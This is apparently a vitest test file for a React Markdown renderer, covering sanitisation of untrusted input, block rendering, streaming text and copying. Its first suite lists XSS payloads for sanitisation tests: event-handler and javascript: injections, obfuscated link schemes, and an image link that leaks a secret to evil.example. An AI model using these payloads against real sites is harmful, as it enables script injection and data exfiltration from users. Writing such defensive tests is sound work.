import { act, fireEvent, screen } from "@testing-library/react";
import { useState } from "react";
import { describe, expect, it, vi } from "vitest";
import { expectAccessible, renderInPage } from "@/testing/render";
import { copiedCode } from "./CodeBlock";
import { type Chunk, MarkdownDocument } from "./document";
import { cleanDrawing } from "./drawing";
import { Markdown, MarkdownChunk } from "./Markdown";
import { selectedText } from "./selection";

const show = (text: string) => renderInPage(<Markdown text={text} />).container;

const F = "```";

describe("untrusted text", () => {
  const attacks = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=q></form>",
    "![x](https://evil.example/?q=SECRET)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](javascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](file:///etc/passwd)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x) [b](blob:https://x/y) [c](wails://wails/) [d](//evil.example) [e](/etc/passwd) [f](#/settings)",
    "<javascript:alert(1)>",
    "[r]\n\n[r]: javascript:alert(1)",
    "| a |\n| --- |\n| <img src=https://evil.example/x> ![y](https://evil.example/y) |",
    "- <video src=https://evil.example/v></video>",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$",
    `${F}html\n<img src=https://evil.example/x onerror=alert(1)>\n${F}`,
    `${F}mermaid\ngraph LR\n click A "javascript:alert(1)"\n${F}`,
  ];

  it.each(attacks)("becomes nothing that runs, loads or leads elsewhere: %s", async (text) => {
    const fetched = vi.spyOn(window, "fetch");
    const container = show(text);
    await act(async () => void (await Promise.resolve()));
    expect(
      container.querySelectorAll(
        "img, script, iframe, object, embed, video, audio, form, input, link, style, base, meta",
      ),
    ).toHaveLength(0);
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name.startsWith("on"), `${name} of ${element.tagName}`).toBe(false);
        if (/^(href|src|xlink:href|action|formaction|srcset|poster)$/.test(name))
          expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
    expect(fetched).not.toHaveBeenCalled();
  });

  it("shows a remote picture as its address, which opens only after it was shown", async () => {
    const opened = vi.spyOn(window, "open").mockReturnValue(null);
    const container = show("![chart](https://evil.example/?q=secret)");
    expect(container.textContent).toContain("https://evil.example/?q=secret");
    fireEvent.click(screen.getByRole("link", { name: "chart" }));
    expect(opened.mock.calls.every(([url]) => String(url).startsWith("https://evil.example"))).toBe(true);
  });

  it("keeps links of the web and of mail", () => {
    show("[w](https://example.org/a?b=1) [m](mailto:ada@example.org) https://auto.example");
    expect(screen.getAllByRole("link").map((a) => a.getAttribute("href"))).toEqual([
      "https://example.org/a?b=1",
      "mailto:ada@example.org",
      "https://auto.example/",
    ]);
  });

  it("takes out of a drawing what runs, loads or leads elsewhere", () => {
    const svg = cleanDrawing(
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="x()" viewBox="0 0 9 9">
        <style>.a{fill:url(#g)}</style><style>.b{background:url(https://evil.example)}</style><style>@import "https://evil.example";</style>
        <script>x()</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example"/></body></foreignObject>
        <image href="https://evil.example/x.png"/><a xlink:href="javascript:x()"><text>t</text></a>
        <rect class="a" style="fill:url(https://evil.example)" onclick="x()"/><use href="#g"/></svg>`,
    );
    const left = new XMLSerializer().serializeToString(svg);
    expect(left).not.toMatch(/evil|script|onclick|onload|foreignObject|<image|<a /i);
    expect(left).toContain("url(#g)");
    expect(left).toContain("<rect");
  });
});

describe("blocks", () => {
  it("are the elements that they mean", () => {
    const container = show(
      "# H\n\n- a\n  1. b\n- [x] c\n\n3. x\n1. y\n\n| l | r |\n| :-- | --: |\n| 1 | 2 |\n\n> q\n\n---\n\n~~gone~~ **b** *i* `c`",
    );
    expect(container.querySelector("h3")?.textContent).toBe("H");
    expect(container.querySelectorAll("ul > li")).toHaveLength(2);
    expect(container.querySelector("ul ol li")?.textContent).toBe("b");
    expect(screen.getByRole("img", { name: "Done:" })).toBeTruthy();
    expect(container.querySelector("ol[start='3']")?.children).toHaveLength(2);
    expect(container.querySelector("th:last-child")?.getAttribute("style")).toContain("right");
    for (const name of ["blockquote", "hr", "del", "strong", "em", "p code"])
      expect(container.querySelector(name), name).toBeTruthy();
  });

  it("can be reached and named by assistive software", async () => {
    const container = show(
      `# H\n\n- [ ] a\n\n| a |\n| --- |\n| 1 |\n\n${F}go\nx := 1\n${F}\n\n$x^2$ [l](https://e.org)`,
    );
    await expectAccessible(container);
  });

  it("gives the exact bytes of code, without the last line end", () => {
    expect(copiedCode("a\tb\r\n\n  c\r\n")).toBe("a\tb\r\n\n  c");
    expect(copiedCode("x\n\n")).toBe("x\n");
  });
});

describe("a growing text", () => {
  it("never throws, at any length, and ends as the whole text", () => {
    const text = `# T\n\nSome **bold *and* em** with \`code\` and [l](https://e.org).\n\n| a | b |\n|---|---|\n| $P(A|B)$ | \`x|y\` |\n\n${F}js\nlet a = 1;\n${F}\n\n1. one\n   - two\n\n\\[x^2\\]\n\nend $5 and $6`;
    const document = new MarkdownDocument();
    for (let length = 1; length <= text.length; length++) document.grow(text.slice(0, length));
    document.finish(text);
    const whole = new MarkdownDocument();
    whole.finish(text);
    expect(document.chunks).toEqual(whole.chunks);
  });

  it("keeps its elements and their text nodes, and with them the selection, while it grows and when it is done", () => {
    const text = new MarkdownDocument();
    text.grow("Hello **big** wor");
    let redraw = () => {};
    const Growing = () => {
      const [, set] = useState(0);
      redraw = () => set((n) => n + 1);
      return <MarkdownChunk chunk={text.chunks[0] as Chunk} />;
    };
    const { container } = renderInPage(<Growing />);
    const paragraph = container.querySelector("p") as Element;
    const nodes = [...paragraph.children].map((child) => child.firstChild);
    const last = nodes.at(-1) as Text;
    expect(last.data).toBe(" wor");
    const range = document.createRange();
    range.setStart(last, 1);
    range.setEnd(last, 4);
    act(() => {
      text.grow("Hello **big** world and mo");
      redraw();
    });
    act(() => {
      text.finish("Hello **big** world and more.\n");
      redraw();
    });
    expect(container.querySelector("p")).toBe(paragraph);
    expect(last.isConnected).toBe(true);
    expect(last.data).toBe(" world and more.");
    expect(range.toString()).toBe("wor");
  });
});

describe("copying", () => {
  const copyOf = (container: Element, from?: Node, to?: Node) => {
    const range = document.createRange();
    if (from && to) {
      range.setStart(from, 0);
      range.setEnd(to, to.textContent?.length ?? 0);
    } else range.selectNodeContents(container);
    return selectedText(range);
  };

  it("gives the source of formulas, the text of code and no labels", () => {
    const container = show(`It is $E=mc^2$, at $5.\n\n${F}js\na\n\nb\n${F}\n\n- x\n- y`);
    expect(copyOf(container)).toBe("It is $E=mc^2$, at $5.\n\na\n\nb\n\nx\ny");
  });

  it("gives exactly the bytes of code that are selected in it", () => {
    const container = show(`${F}\n\tone\r\n  two\n${F}`);
    const code = container.querySelector("[data-code]") as Element;
    expect(copyOf(code)).toBe("\tone\r\n  two\n");
  });
});
